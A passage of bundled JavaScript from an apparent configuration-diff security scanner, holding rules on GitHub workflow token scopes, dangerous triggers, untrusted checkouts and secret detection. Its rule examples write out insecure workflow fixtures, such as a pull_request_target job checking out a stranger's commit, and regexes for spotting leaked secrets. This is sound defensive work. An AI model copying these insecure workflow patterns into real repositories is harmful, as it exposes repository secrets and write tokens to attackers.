];

// src/domains/config/rules/workflow/tokens.ts
var path25 = ".github/workflows/ci.yml";
var granting = (permissions2) => job3(`permissions: ${permissions2}`);
var atTop = (permissions2) => job3("", `on: push
permissions: ${permissions2}`);
var ofTwo = (permissions2) => `${atTop(permissions2)}  lint: { permissions: {}, steps: [{ run: make lint }] }
`;
var forStrangers2 = (permissions2) => job3(`permissions: ${permissions2}`, "on: issue_comment");
var asNew = (outcome, permissions2) => ({
  path: path25,
  before: "",
  after: granting(permissions2),
  outcome
});
function said7({ job: name, scope, from: from3, to, others, writes, isNew, forAllJobs }) {
  const what = scope === "*" ? `\`${to}-all\`` : `\`${scope}: ${to}\``;
  if (isNew) return `The new job \`${name}\` has ${scope === "*" ? what : strongestFirst(writes)}.`;
  const more2 = others.length === 0 ? "" : `, and more on ${others.map((other) => `\`${other}\``).join(", ")}`;
  const whose = `The token of ${forAllJobs ? "each job" : `job \`${name}\``}`;
  if (from3 === "none") return `${whose} now has ${what}${more2}.`;
  if (from3 !== void 0)
    return `${whose} goes from \`${scope === "*" ? from3 : `${scope}: ${from3}`}\` to ${what}${more2}.`;
  return scope === "*" ? `${whose} goes from the repository\u2019s default to ${what}${more2}.` : `${whose} now has ${what}${more2}, which no repository gives by default.`;
}
var strongestFirst = (writes) => writes.toSorted((a, b) => Number(SUPPLY.has(b)) - Number(SUPPLY.has(a))).map((scope) => `\`${scope}: write\``).join(", ");
var SUPPLY = /* @__PURE__ */ new Set(["actions", "contents", "id-token", "packages"]);
function strength2({ isCalled, isNew, startedByStrangers, forAllJobs, writes, from: from3 }) {
  if (isCalled) return "called";
  const isOfSupply = writes.some((each) => SUPPLY.has(each));
  if (isNew && writes.some((each) => SUPPLY.has(each) && each !== "id-token")) return "new-strong";
  if (isNew) return startedByStrangers ? void 0 : "weak";
  if (from3 === void 0) return "strong-contained";
  return startedByStrangers || forAllJobs && isOfSupply ? "strong" : "strong-contained";
}
var CI = "Give write access to the one job that needs it, and only for the scope it needs.";
var tokens_default2 = [
  configRule({
    id: "config/workflow-token-widened",
    on: "token-widened",
    class: "permission-widening",
    title: "token of a workflow may do more",
    why: "Every step of the job, and every action it uses, may do so in the name of the repository.",
    fix: CI,
    equivalents: ["zizmor:excessive-permissions", "checkov:CKV2_GHA_1"],
    outcomes: {
      "write-all": {
        risk: "critical",
        message: said7,
        why: "Every step and action of the job may change all there is in the repository."
      },
      "new-write-all": {
        risk: "high",
        message: said7,
        why: "Every step and action of the job may change all there is in the repository."
      },
      strong: { risk: "high", message: said7 },
      "strong-contained": { risk: "medium", message: said7 },
      "new-strong": { risk: "medium", message: said7 },
      called: {
        risk: "low",
        message: said7,
        why: "A workflow that is called gets no more than its caller gives; callers that give all by default give this too."
      },
      moderate: { risk: "medium", message: said7 },
      weak: { risk: "low", message: said7 },
      read: { risk: "low", message: said7, why: "Every step of the job, and every action it uses, may read it." }
    },
    examples: [
      { path: path25, before: granting("{ contents: read }"), after: granting("write-all"), outcome: "write-all" },
      asNew("new-write-all", "write-all"),
      { path: path25, before: ofTwo("{ contents: read }"), after: ofTwo("{ contents: write }"), outcome: "strong" },
      { path: path25, before: atTop("{ contents: read }"), after: atTop("{ contents: write }"), outcome: "strong-contained" },
      { path: path25, before: forStrangers2("{ issues: read }"), after: forStrangers2("{ issues: write }"), outcome: "strong" },
      {
        path: path25,
        before: granting("{ contents: read }"),
        after: granting("{ contents: write }"),
        outcome: "strong-contained"
      },
      { path: path25, before: atTop("{ issues: read }"), after: atTop("{ issues: write }"), outcome: "strong-contained" },
      { path: path25, before: atTop("read-all"), after: granting("{ packages: write }"), outcome: "strong-contained" },
      { path: path25, before: job3(), after: granting("{ contents: read, id-token: write }"), outcome: "strong-contained" },
      { path: path25, before: job3(), after: atTop("{ contents: read, id-token: write }"), outcome: "strong-contained" },
      { path: path25, before: "", after: granting("{ pull-requests: write }"), outcome: "weak" },
      asNew("new-strong", "{ contents: write }"),
      asNew("weak", "{ id-token: write, security-events: write }"),
      { path: path25, before: "", after: job3("permissions: { contents: write }", "on: workflow_call"), outcome: "called" },
      { path: path25, before: "", after: granting("{ issues: write, actions: read }"), outcome: "weak" },
      { path: path25, before: granting("{ contents: read }"), after: granting("{ checks: write }"), outcome: "moderate" },
      { path: path25, before: granting("{}"), after: granting("{ statuses: write }"), outcome: "weak" },
      { path: path25, before: granting("{}"), after: granting("{ issues: read }"), outcome: "read" },
      { path: path25, before: "", after: granting("{ contents: read }"), outcome: "none" },
      { path: path25, before: job3(), after: granting("{ contents: write }"), outcome: "none" },
      { path: path25, before: atTop("{ contents: write }"), after: granting("{ contents: write }"), outcome: "none" },
      { path: path25, before: granting("write-all"), after: granting("{ contents: write }"), outcome: "none" },
      {
        path: path25,
        before: granting("{ contents: write }"),
        after: granting("{ contents: write }").replace("build:", "compile:"),
        outcome: "none"
      }
    ],
    classify: (change) => {
      const { reach: reach4, isNew } = change;
      if (reach4 === "everything") return isNew ? "new-write-all" : "write-all";
      if (reach4 === "strong") return strength2(change);
      return isNew ? void 0 : reach4;
    }
  }),
  configRule({
    id: "config/workflow-token-unset",
    on: "token-unset",
    class: "permission-widening",
    title: "token of a workflow left to the default",
    why: "The default of the repository holds, which may be write access to everything.",
    fix: "Keep a `permissions` block; `contents: read` is enough for most jobs.",
    equivalents: ["zizmor:excessive-permissions"],
    outcomes: {
      unset: { risk: "medium", message: (c) => `No \`permissions\` hold for job \`${c.job}\` any more.` }
    },
    examples: [
      { path: path25, before: granting("{ contents: read }"), after: job3(), outcome: "unset" },
      { path: path25, before: atTop("read-all"), after: job3(), outcome: "unset" },
      { path: path25, before: granting("{ contents: read }"), after: atTop("{ contents: read }"), outcome: "none" },
      { path: path25, before: "", after: job3(), outcome: "none" }
    ],
    classify: () => "unset"
  }),
  configRule({
    id: "config/workflow-token-narrowed",
    on: "token-narrowed",
    class: "hardening",
    title: "token of a workflow may do less",
    why: "A step that is taken over can do less harm.",
    fix: "Watch the first run for a step that needs more.",
    outcomes: { narrowed: { risk: "info", message: (c) => `The token of job \`${c.job}\` gets fewer rights.` } },
    examples: [
      { path: path25, before: granting("write-all"), after: granting("{ contents: read }"), outcome: "narrowed" },
      { path: path25, before: job3(), after: atTop("{ contents: read }"), outcome: "narrowed" },
      { path: path25, before: granting("{ contents: read }"), after: granting("{ contents: write }"), outcome: "none" }
    ],
    classify: () => "narrowed"
  })
];

// src/domains/config/rules/workflow/triggers.ts
var path26 = ".github/workflows/ci.yml";
var TARGET = "on: [push, pull_request_target]";
var READING = `${TARGET}
permissions: { contents: read }`;
var BARE2 = "Whatever in the job runs that code lets it write to the caches of the main branch, from which other workflows build; the token may only read.";
var CHECKOUT = "uses: actions/checkout@v6";
var OF_STRANGER = `${CHECKOUT}
with: { ref: "\${{ github.event.pull_request.head.sha }}" }`;
var triggers_default = [
  configRule({
    id: "config/workflow-trigger-added",
    on: "trigger-added",
    class: "permission-widening",
    title: "strangers can start the workflow with its secrets",
    why: "On this event the workflow runs for anybody, with the secrets of the repository and a token that may write.",
    fix: "Use `pull_request`; where that is not enough, check nothing out and use nothing the stranger wrote.",
    equivalents: ["zizmor:dangerous-triggers"],
    outcomes: {
      "runs-strange-code": {
        risk: "critical",
        message: (c) => `The workflow starts on \`${c.trigger}\` and checks out the code of whoever triggers it.`,
        why: "A pull request from anybody runs its own code with the secrets and the token of the repository."
      },
      "runs-strange-code-bare": {
        risk: "high",
        message: (c) => `The workflow starts on \`${c.trigger}\` and checks out the code of whoever triggers it.`,
        why: BARE2
      },
      target: { risk: "high", message: (c) => `The workflow now starts on \`${c.trigger}\`.` },
      "new-target": { risk: "medium", message: (c) => `The new workflow starts on \`${c.trigger}\`.` }
    },
    examples: [
      { path: path26, before: step(OF_STRANGER), after: step(OF_STRANGER, TARGET), outcome: "runs-strange-code" },
      { path: path26, before: "", after: step(OF_STRANGER, TARGET), outcome: "runs-strange-code" },
      {
        path: path26,
        before: "",
        after: step(OF_STRANGER, `${TARGET}
permissions: read-all`),
        outcome: "runs-strange-code-bare"
      },
      { path: path26, before: job3(), after: job3("", TARGET), outcome: "target" },
      { path: path26, before: job3(), after: job3("", "on:\n  push:\n  workflow_run: { workflows: [ci] }"), outcome: "target" },
      { path: path26, before: "", after: job3("", TARGET), outcome: "new-target" },
      { path: path26, before: job3("", TARGET), after: job3("", "on:\n  pull_request_target:\n  push:"), outcome: "none" },
      { path: path26, before: job3(), after: job3("", "on: [push, pull_request]"), outcome: "none" }
    ],
    classify: ({ checksOut, isBare: isBare2, isNew }) => {
      if (checksOut) return isBare2 ? "runs-strange-code-bare" : "runs-strange-code";
      return isNew ? "new-target" : "target";
    }
  }),
  configRule({
    id: "config/workflow-untrusted-checkout",
    on: "untrusted-checkout",
    class: "permission-widening",
    title: "workflow checks out a stranger\u2019s code",
    why: "A pull request from anybody now runs its own code with the secrets and the token of the repository.",
    fix: "Build strangers\u2019 code on `pull_request`, and hand the result to a second workflow.",
    equivalents: ["zizmor:dangerous-triggers"],
    outcomes: {
      added: {
        risk: "critical",
        message: (c) => `The workflow runs on \`${c.trigger}\` and now checks out the code of whoever triggers it.`
      },
      bare: {
        risk: "high",
        message: (c) => `The workflow runs on \`${c.trigger}\` and now checks out the code of whoever triggers it.`,
        why: BARE2
      }
    },
    examples: [
      { path: path26, before: step(CHECKOUT, TARGET), after: step(OF_STRANGER, TARGET), outcome: "added" },
      { path: path26, before: step(CHECKOUT, READING), after: step(OF_STRANGER, READING), outcome: "bare" },
      { path: path26, before: step(CHECKOUT), after: step(OF_STRANGER), outcome: "none" },
      { path: path26, before: step(OF_STRANGER, TARGET), after: step(`${OF_STRANGER} # known`, TARGET), outcome: "none" }
    ],
    classify: ({ isBare: isBare2 }) => isBare2 ? "bare" : "added"
  }),
  configRule({
    id: "config/workflow-trigger-removed",
    on: "trigger-removed",
    class: "hardening",
    title: "strangers can no longer start the workflow",
    why: "The secrets of the repository are no longer at hand when a stranger starts it.",
    fix: "Check that nothing waits for the event.",
    outcomes: { removed: { risk: "info", message: (c) => `The workflow no longer starts on \`${c.trigger}\`.` } },
    examples: [
      { path: path26, before: job3("", TARGET), after: job3(), outcome: "removed" },
      { path: path26, before: job3(), after: job3("", TARGET), outcome: "none" },
      { path: path26, before: job3("", TARGET), after: "", outcome: "none" }
    ],
    classify: () => "removed"
  })
];

// src/domains/config/rules/index.ts
var rules3 = [
  access_default,
  accounts_default,
  connections_default,
  data_default,
  encryption_default,
  exposure_default,
  limits_default,
  observability_default,
  transport_default,
  web_default,
  policies_default,
  settings_default,
  sync_default,
  certificates_default,
  encryption_default2,
  exposure_default2,
  guards_default,
  managed_policies_default,
  parameters_default,
  policies_default2,
  protection_default,
  security_groups_default,
  stacks_default,
  deployment_default,
  health_default,
  project_default,
  services_default,
  condition_changed_default,
  duplicate_key_default,
  filters_default,
  file_unreadable_default,
  checks_default,
  includes_default,
  jobs_default,
  tests_default,
  authorization_default,
  gateways_default,
  tokens_default,
  key_moved_default,
  key_removed_default,
  key_renamed_default,
  admission_default,
  api_server_default,
  api_versions_default,
  broken_references_default,
  chart_switches_default,
  components_default,
  crd_behaviour_default,
  crd_envelope_default,
  crd_narrowed_default,
  crds_default,
  disruptions_default,
  encryption_at_rest_default,
  environment_default,
  etcd_files_default,
  immutable_fields_default,
  immutable_objects_default,
  jobs_default2,
  object_renamed_default,
  pod_accounts_default,
  pod_capabilities_default,
  pod_groups_default,
  pod_host_access_default,
  pod_identity_default,
  pod_privileges_default,
  pod_sharing_default,
  policy_enforcement_default,
  policy_objects_default,
  probe_settings_default,
  probes_default,
  references_default,
  replicas_default,
  resources_default,
  rollout_pace_default,
  rollouts_default,
  secret_objects_default,
  storage_default,
  webhooks_default,
  gateways_default2,
  guards_default2,
  ingress_hosts_default,
  ingress_tls_default,
  ingresses_default,
  mesh_default,
  network_policies_default,
  service_contracts_default,
  services_default2,
  inputs_default,
  operations_default,
  requests_default,
  responses_default,
  schemas_default,
  security_default,
  settings_default2,
  workflow_default,
  alerts_default,
  monitoring_default,
  aggregation_default,
  bindings_default,
  role_escalations_default,
  role_grants_default,
  role_narrowed_default,
  secret_written_default,
  functions_default,
  source_changed_default,
  type_changed_default,
  value_misspelt_default,
  checkouts_default,
  conditions_default,
  contracts_default,
  dependabot_default,
  guards_default3,
  jobs_default3,
  runners_default,
  runs_default,
  scripts_default,
  tests_default2,
  tokens_default2,
  triggers_default
].flat();

// src/domains/config/secrets.ts
function writtenSecret(setting, credentials, held2) {
  const { before: before3 } = setting;
  for (const scalar2 of newScalars(setting)) {
    const looks = formatOf(scalar2.text, before3) ?? formatBySecretlint(scalar2, setting, credentials) ?? (isNamedSecret(scalar2, setting) || isFromStore(scalar2, setting) ? BY_NAME : void 0);
    if (looks !== void 0 && !held2(setting, scalar2.text)) return fact3(setting, scalar2, looks);
  }
  return void 0;
}
var textsToSearch = (settings) => settings.flatMap((setting) => {
  const written2 = newScalars(setting);
  const nodes = written2.length === 0 ? [] : [...written2, ...scalarsOf(setting.before)];
  return nodes.map(({ text }) => assigned(setting.name, text));
});
function newScalars({ before: before3, after, inSchema }) {
  if (after === void 0 || inSchema || isLookedInto(after)) return [];
  const old = new Set(scalarsOf(before3).map(({ text }) => text));
  return scalarsOf(after).filter(({ text }) => !old.has(text));
}
var isLookedInto = (node) => node.kind === "scalar" && nestedIn(node) !== void 0 || node.kind === "list" && asSettings(node) !== void 0;
var BY_NAME = "secret by its name";
function fact3(setting, scalar2, looks) {
  const [old, ...others] = scalarsOf(setting.before);
  return {
    kind: "secret-written",
    ...whereabouts(setting, `${looks} ${digest(`breakwater:${scalar2.text}`).slice(0, 6)}`),
    name: secretNameOf(setting) ?? setting.name,
    looks,
    by: looks === BY_NAME ? "name" : "format",
    wasReference: old !== void 0 && others.length === 0 && isDynamic(old),
    secret: true
  };
}
var scalarsOf = (node) => branchesOf(node).flatMap(ownScalars);
function ownScalars(node) {
  if (node.kind === "scalar") return [node];
  const items = node.kind === "list" ? node.items.filter((item) => item.kind === "scalar") : [];
  const { tag } = node;
  return tag === void 0 ? items : items.map((item) => ({ ...item, tag }));
}
var OMITTED = /^-----BEGIN [A-Z ]{0,40}PRIVATE KEY-----\s{1,100}(?:<[^>]{1,100}>|\.{3}|…|\*{3})/;
function formatOf(text, before3) {
  for (const { name, pattern } of SECRET_PATTERNS) {
    const match = pattern.exec(text);
    const [found] = match ?? [];
    if (found === void 0 || isPlaceholder(found.slice(0, LONGEST14))) continue;
    if (OMITTED.test(text.slice(match?.index))) continue;
    if (before3?.kind !== "scalar" || !before3.text.includes(found)) return name;
  }
  return void 0;
}
function formatBySecretlint({ text }, { name, before: before3 }, credentials) {
  const looks = text.length <= LONGEST14 && isPlaceholder(text) ? void 0 : credentials.get(assigned(name, text));
  return scalarsOf(before3).some((old) => credentials.get(assigned(name, old.text)) === looks) ? void 0 : looks;
}
var assigned = (name, text) => `${name} = ${text}`;
var SHORTEST2 = 6;
var LONGEST14 = 300;
var isNamedSecret = (scalar2, setting) => secretNameOf(setting) !== void 0 && isLiteral2(scalar2);
var isFromStore = (scalar2, { before: before3 }) => before3?.kind === "scalar" && (before3.tag === "!vault" || STORES.test(before3.text)) && isLiteral2(scalar2) && /^(?=.*\d).{12,}$/.test(scalar2.text);
var STORES = /^(?:\{\{\s*resolve:(?:secretsmanager|ssm-secure):|\$\{\{\s*secrets\.|vault:|ref\+(?:vault|awssecrets|gcpsecrets|azurekeyvault):)/;
var isLiteral2 = ({ text, value, tag }) => typeof value === "string" && tag === void 0 && text.length >= SHORTEST2 && text.length <= LONGEST14 && !isOpen4(text) && entropy(text) > (text.length <= 20 ? 2.5 : 3);
function secretNameOf({ name, keys }) {
  const [last = "", above = ""] = [keys.at(-1), keys.at(-2)];
  if (keys.includes("encryptedData") || POINTS.test(spaced(name))) return void 0;
  if (isSecretKey(name) || isSecretKey(last)) return name;
  return /^(?:default|value)$/i.test(last) && isSecretKey(above) ? `${above}.${last}` : void 0;
}
var POINTS = /(?:^|[-_. ])(?:existing|external|pull|tls|ssl|cert|certificate|from|use|kubernetes|k8s)[-_. ](?:[a-z0-9]+[-_. ]){0,3}(?:secret|credentials?)$/;
var spaced = (name) => name.replace(/([a-z0-9])([A-Z])/g, "$1-$2").toLowerCase();
var isOpen4 = (text) => isReference(text) || /\s|\$\{|\$\(|\{\{|^\$!?[A-Za-z_]+(?:\.[A-Za-z_]+)*$/.test(text) || isPlaceholder(text) || isNameOfSomething(text);
var isNameOfSomething = (text) => /^[./~]|^[a-z][a-z0-9+.-]*:|^(?:[a-z][a-z0-9]*[-_.])+(?:secret|password|passwd|pass|token|key|credentials?)$|^[a-z]+(?:[-_./][a-z]+)*$|^[A-Z]+(?:_[A-Z]+)*$|^[a-z]+(?:[A-Z][a-z]+)*$|\.(?:pem|key|crt|json|ya?ml|txt)$/.test(
  text
);
function entropy(text) {
  const counts = /* @__PURE__ */ new Map();
  for (const char of text) counts.set(char, (counts.get(char) ?? 0) + 1);
  let bits = 0;
  for (const count3 of counts.values()) bits -= count3 / text.length * Math.log2(count3 / text.length);
  return bits;
}

// src/domains/config/structure.ts
function structuralFact(edit) {
  const isDocument = edit.setting.path.length === 0;
  if (isDocument && (edit.kind === "added" || edit.kind === "removed")) return documentFact(edit.kind, edit.setting);
  return FACTS[edit.kind]?.(edit);
}
var FACTS = {
  changed: ({ setting }) => valueFact(setting),
  retyped: ({ setting }) => valueFact(setting),
  added: ({ setting }) => ({ kind: "key-added", ...whereabouts(setting, "added"), ...called5(setting) }),
  removed: removalFact,
  renamed: renameFact,
  moved: moveFact
};
function documentFact(kind, setting) {
  const { title, path: path27 } = setting.document;
  return { kind: `document-${kind}`, ...whereabouts(setting, kind), name: title ?? path27 };
}
var called5 = ({ path: path27, name }) => ({ name, what: path27.at(-1)?.kind ?? "key" });
function removalFact(edit) {
  const { setting, maybe } = edit;
  const { document, inSchema } = setting;
  const where = whereabouts(setting, "removed");
  const together2 = document.isPublic ? {} : { group: `${document.path}#removed` };
  const more2 = { ...inSchema ? { inSchema } : {}, ...maybe === void 0 ? {} : { maybe } };
  return { kind: "key-removed", ...where, ...together2, ...called5(setting), ...more2, ...readingOf(edit) };
}
function renameFact(edit) {
  const { setting, from: from3 = "", reader } = edit;
  const to = setting.keys.at(-1) ?? "";
  const key3 = `${from3}->${to}`;
  const where = { ...whereabouts(setting, key3), group: `#${key3}` };
  return { kind: "key-renamed", ...where, from: from3, to, ...reader === void 0 ? {} : { reader }, ...readingOf(edit) };
}
function moveFact(edit) {
  const { setting, from: from3 = "" } = edit;
  const to = displayPath(setting.path);
  return { kind: "key-moved", ...whereabouts(setting, `${from3}->${to}`), from: from3, to, ...readingOf(edit) };
}
var readingOf = ({ stillRead, setting: { path: path27 } }) => stillRead === void 0 ? {} : {
  stillRead,
  group: `${stillRead.path} ${displayPath(path27)}`,
  after: { path: stillRead.path, line: stillRead.line }
};
function valueFact(setting) {
  const { before: before3, after } = setting;
  if (before3 === void 0 || after === void 0) return void 0;
  const [from3, to] = [typeOf(before3), typeOf(after)];
  if (isRetyped(before3, after) && !isReadEitherWay(setting, after)) return retyped(setting, from3, to);
  const values3 = { name: setting.name, from: shown2(before3, setting), to: shown2(after, setting) };
  return { kind: "value-changed", ...whereabouts(setting, `${values3.from}->${values3.to}`), ...values3 };
}
function retyped(setting, from3, to) {
  const group4 = { group: `${setting.document.path}#${from3}->${to}` };
  const empty = isEmptyCollection(setting.before) && isEmptyCollection(setting.after) ? { isEmpty: true } : {};
  return { kind: "type-changed", ...whereabouts(setting, `${from3}->${to}`), ...group4, from: from3, to, ...empty };
}
var isEmptyCollection = (node) => node?.kind === "map" && node.entries.size === 0 || node?.kind === "list" && node.items.length === 0;
function isReadEitherWay({ ownerBefore, before: before3 }, after) {
  const siblings = entriesOf(ownerBefore).flatMap(([, node]) => node === before3 ? [] : [node]);
  return siblings.some((node) => {
    if (node.kind === "map" && after.kind === "map") return keysOf3(node) === keysOf3(after);
    return sameText2(node, after) && typeOf(node) === typeOf(after);
  });
}
var keysOf3 = (node) => [...node.entries.keys()].toSorted().join();
function isRetyped(before3, after) {
  if (isDynamic(before3) || isDynamic(after)) return false;
  return before3.kind === "map" !== (after.kind === "map") || sameText2(before3, after);
}
var sameText2 = (a, b) => a.kind === "scalar" && b.kind === "scalar" && a.text === b.text;
function typeOf(node) {
  if (node.kind !== "scalar") return node.kind;
  if (isDynamic(node)) return "template";
  if (node.value === null) return "null";
  const type = typeof node.value;
  return type === "number" || type === "boolean" ? type : "string";
}

// src/domains/config/analyzer.ts
var config = {
  domain: "config",
  rules: rules3,
  modifiers,
  claims,
  async analyze(input2) {
    const { pairs, unreadable } = await parsePairs(input2, parse);
    const [patched, apis, nearby] = await Promise.all([
      withPatches(pairs, input2),
      gatherApis(pairs, input2),
      gatherNearby(pairs, input2).then((found2) => withPatches(found2, input2))
    ]);
    const files2 = [...patched, ...apis.roots, ...nearby.map((pair) => ({ ...pair, before: pair.after }))];
    const documents2 = pairDocuments(files2, dialects).flatMap((paired) => pairOf(paired, input2));
    const edits = await editsOf(documents2, input2);
    const secretIn = await secretsAmong(edits.flat().map(({ setting }) => setting));
    const ofDocuments = edits.flatMap((some, i) => documentFacts(documents2[i], some, secretIn));
    const found = withElsewhere(
      ofDocuments,
      documents2.map(({ pair }) => pair)
    );
    const ofTrees = await withoutMetConditions(found, input2);
    const ofDialects = await withCopies(
      dialects.flatMap((dialect30) => dialectFacts(dialect30, documents2, input2)),
      input2
    );
    const judge = (objects2) => worstFirst(rules3, factsOfObjects(objects2, input2));
    const ofOverlays = [...await lostFacts(patched, input2, judge), ...await unlistedFacts(patched, input2, judge)];
    return [
      ...unreadable,
      ...apis.unreadable,
      ...aggregate(
        oneFactEach([...ofTrees, ...withoutTold(files2.flatMap(fileFacts), ofTrees), ...ofDialects, ...ofOverlays])
      )
    ];
  }
};
function pairOf(paired, input2) {
  const known2 = paired.after ?? paired.before;
  if (known2 === void 0) return [];
  return [documentOf({ before: paired.before?.document, after: paired.after?.document }, known2, input2)];
}
function documentOf(sides, { document: { path: path27 }, dialect: dialect30, title }, { settings }) {
  const context = { dialect: dialect30?.name, area: areaOf(path27), isPublic: settings.config.isPublic(path27) };
  return { pair: { before: sides.before, after: sides.after, path: path27, title, ...context }, dialect: dialect30 };
}
function factsOfObjects(objects2, input2) {
  const documents2 = objects2.flatMap(({ before: before3, after }) => {
    const document = after ?? before3;
    const dialect30 = document && dialects.find((each) => each.recognises(document));
    if (document === void 0) return [];
    const title = dialect30?.title?.(document);
    return [documentOf({ before: before3, after }, { document, dialect: dialect30, title }, input2)];
  });
  const ofEdits = documents2.flatMap((each) => documentFacts(each, diff(each.pair, each.dialect), noSecret));
  return [...ofEdits, ...dialects.flatMap((dialect30) => dialectFacts(dialect30, documents2, input2))];
}
var noSecret = () => void 0;
var controlsOf = controlsAmong(rules3);
async function editsOf(documents2, input2) {
  const first = documents2.map(({ pair, dialect: dialect30 }) => diff(pair, dialect30));
  const evidence = await evidenceFor(first.flat(), input2);
  const all = documents2.map(({ pair, dialect: dialect30 }, i) => {
    const edits = first[i] ?? [];
    const again = evidence !== noEvidence && mayHoldRename(edits);
    return withMoves(again ? diff(pair, dialect30, evidence) : edits);
  });
  return Promise.all(all.map((edits) => withStillRead(edits, input2)));
}
async function secretsAmong(settings) {
  const [credentials, held2] = [await credentialsIn(textsToSearch(settings)), heldBefore(settings)];
  return (setting) => writtenSecret(setting, credentials, held2);
}
function documentFacts(document, edits, secretIn) {
  if (document === void 0) return [];
  const { pair, dialect: dialect30 } = document;
  const ofEdits = edits.flatMap((edit) => editFacts(edit, dialect30, secretIn));
  const ofEffects = (dialect30?.effective?.(pair) ?? []).flatMap(
    (setting) => movedControl(controlsOf(dialect30?.name), setting, dialect30) ?? []
  );
  return [...ofEdits, ...ofEffects];
}
function editFacts(edit, dialect30, secretIn) {
  const { setting } = edit;
  const spoken = secretIn(setting) ?? movedControl(controlsOf(dialect30?.name), setting, dialect30);
  return spoken !== void 0 || owns(dialect30, setting) ? [spoken ?? []].flat() : [structuralFact(edit) ?? []].flat();
}
function dialectFacts(dialect30, documents2, { settings }) {
  const own = documents2.filter((each) => each.dialect === dialect30).map(({ pair }) => pair);
  return own.length === 0 ? [] : dialect30.facts?.(own, settings.config) ?? [];
}
export {
  config
};
